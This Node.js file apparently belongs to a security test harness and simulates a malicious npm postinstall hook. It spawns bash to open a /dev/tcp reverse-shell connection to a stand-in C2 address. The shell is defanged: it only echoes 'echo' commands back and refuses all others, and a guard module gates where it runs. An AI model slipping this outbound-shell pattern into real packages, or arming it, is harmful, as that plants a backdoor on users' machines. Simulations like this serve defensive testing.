// guarded-install attack simulation (harmless): postinstall reverse shell.
// Steps:
//   1. node starts, waits 0.5 s                                       (t = 0)
//   2. spawns `bash -c 'exec 3<>/dev/tcp/203.0.113.45/9001; ...'`:
//      bash connects to the C2's raw TCP port and says hello           (t ~ 0.5 s)
//   3. the "operator" (C2 stub) sends `echo ...` twice (0.4 s apart), then
//      `exit`; the shell answers each echo. It never evaluates anything it
//      receives: `echo X` is answered with X, anything else is refused.
//                                                                     (t ~ 0.8-1.6 s)
//   4. node waits for bash (15 s at most) and exits.
// Connections go only to 203.0.113.45 (the local C2 stub).
'use strict';
const { spawn } = require('node:child_process');
const { guard, sleep, step, C2_IP, C2_TCP_PORT } = require('./sim-guard.js');

const SIM = 'reverse-shell';
guard(__dirname, SIM);

const SHELL = `exec 3<>/dev/tcp/${C2_IP}/${C2_TCP_PORT} || exit 0
echo "hello from pid $$" >&3
while IFS= read -r cmd <&3; do
  case "$cmd" in
    "echo "*) printf '%s\\n' "\${cmd#echo }" >&3 ;;
    exit) break ;;
    *) printf 'refused: %s\\n' "$cmd" >&3 ;;
  esac
done
exec 3>&-`;

async function main() {
  await sleep(500);
  const child = spawn('bash', ['-c', SHELL], { stdio: 'ignore' });
  step(SIM, `bash reverse shell started, pid ${child.pid}`);
  const timer = setTimeout(() => child.kill('SIGKILL'), 15_000); // our own child, by pid
  await new Promise((resolve) => {
    child.on('error', (e) => {
      step(SIM, `no bash: ${e.message}`);
      resolve();
    });
    child.on('close', resolve);
  });
  clearTimeout(timer);
  step(SIM, 'session over');
}

main().catch((error) => {
  step(SIM, `failed: ${error.message}`);
  process.exit(0);
});
